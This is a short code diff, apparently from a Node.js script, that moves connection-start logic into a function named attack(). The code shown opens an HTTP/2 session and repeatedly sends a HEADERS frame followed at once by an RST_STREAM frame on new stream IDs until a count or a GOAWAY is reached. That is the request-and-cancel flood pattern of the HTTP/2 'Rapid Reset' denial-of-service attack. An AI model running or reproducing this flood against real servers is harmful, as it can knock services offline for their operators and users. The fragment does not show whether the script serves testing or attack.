@@ -44,7 +44,9 @@ socket.on('data', (chunk) => {
     received = received.subarray(9 + length);
   }
 });
-socket.on('secureConnect', async () => {
+socket.on('secureConnect', () => void attack());
+
+async function attack() {
   socket.write(Buffer.concat([PREFACE, frame(0x4, 0, 0, Buffer.alloc(0)), frame(0x4, 0x1, 0, Buffer.alloc(0))]));
   for (let id = 1; sent < Number(count) && goaway === null && !socket.destroyed; id += 2) {
     socket.write(Buffer.concat([frame(0x1, 0x5, id, block), frame(0x3, 0, id, cancel)]));
@@ -52,4 +54,4 @@ socket.on('secureConnect', async () => {
     if (sent % 20 === 0) await new Promise((resolve) => setImmediate(resolve));
   }
   setTimeout(finish, 3000);
-});
+}
